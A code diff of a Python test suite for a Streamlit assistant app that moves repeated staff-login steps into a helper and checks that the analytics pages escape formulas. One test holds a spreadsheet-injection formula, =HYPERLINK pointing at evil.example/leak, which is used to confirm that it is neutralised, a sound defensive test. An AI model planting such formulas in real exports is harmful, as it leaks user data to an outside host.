@@ -20,6 +20,19 @@ from services.knowledge import KnowledgeBase
 APP = str(ROOT / "streamlit_app.py")
 
 
+def _admin_page(monkeypatch: pytest.MonkeyPatch, page: str) -> AppTest:
+    """The app signed in as staff (cheap bcrypt cost), showing `app_pages/<page>.py`."""
+    import bcrypt
+
+    monkeypatch.setenv("ASSISTANT_ADMIN_PASSWORD_HASH", bcrypt.hashpw(b"staff-password", bcrypt.gensalt(4)).decode())
+    get_settings.cache_clear()
+    at = AppTest.from_file(APP, default_timeout=60).run()
+    at.switch_page("app_pages/login.py").run()
+    at.text_input[0].input("staff-password")
+    at.button[0].click().run()
+    return at.switch_page(f"app_pages/{page}.py").run()
+
+
 @pytest.fixture
 def app_env(monkeypatch: pytest.MonkeyPatch):
     import streamlit as st
@@ -67,15 +80,7 @@ def test_the_chat_and_the_search_preview_show_a_missing_price_without_a_tracebac
     rows = ConversationLog(get_settings().feedback_db).rows()
     assert [r["question"] for r in rows] == ["Copperleaf Odd Kettle HP-ODD-1"]  # the question was logged
 
-    import bcrypt
-
-    monkeypatch.setenv("ASSISTANT_ADMIN_PASSWORD_HASH", bcrypt.hashpw(b"staff-password", bcrypt.gensalt(4)).decode())
-    get_settings.cache_clear()
-    at = AppTest.from_file(APP, default_timeout=60).run()
-    at.switch_page("app_pages/login.py").run()
-    at.text_input[0].input("staff-password")
-    at.button[0].click().run()
-    at.switch_page("app_pages/admin_search.py").run()
+    at = _admin_page(monkeypatch, "admin_search")
     at.text_input[0].input("Copperleaf Odd Kettle").run()
     assert not at.exception, at.exception
     assert any("price not available" in c.value for c in at.caption)
@@ -208,20 +213,12 @@ def test_ordinary_cells_are_kept(cell: str) -> None:
 
 
 def test_analytics_tables_hold_no_live_formula(app_env, monkeypatch: pytest.MonkeyPatch) -> None:
-    import bcrypt
-
     formula = '=HYPERLINK("http://evil.example/leak?d="&C2,"Refund status")'
     log = ConversationLog(get_settings().feedback_db)
     for n in range(3):
         log.rate(log.record(f"s{n}", formula, "Sorry...", [], "extractive", True), 0)
     log.record("s9", "@SUM(1,2)", "Sorry...", [], "extractive", True)
-    monkeypatch.setenv("ASSISTANT_ADMIN_PASSWORD_HASH", bcrypt.hashpw(b"staff-password", bcrypt.gensalt(4)).decode())
-    get_settings.cache_clear()
-    at = AppTest.from_file(APP, default_timeout=60).run()
-    at.switch_page("app_pages/login.py").run()
-    at.text_input[0].input("staff-password")
-    at.button[0].click().run()
-    at.switch_page("app_pages/admin_analytics.py").run()
+    at = _admin_page(monkeypatch, "admin_analytics")
     assert not at.exception, at.exception
     gaps, disliked = (frame.value for frame in at.dataframe)
     assert list(gaps["question"]) == ["'" + formula, "'@SUM(1,2)"] and list(gaps["times"]) == [3, 1]
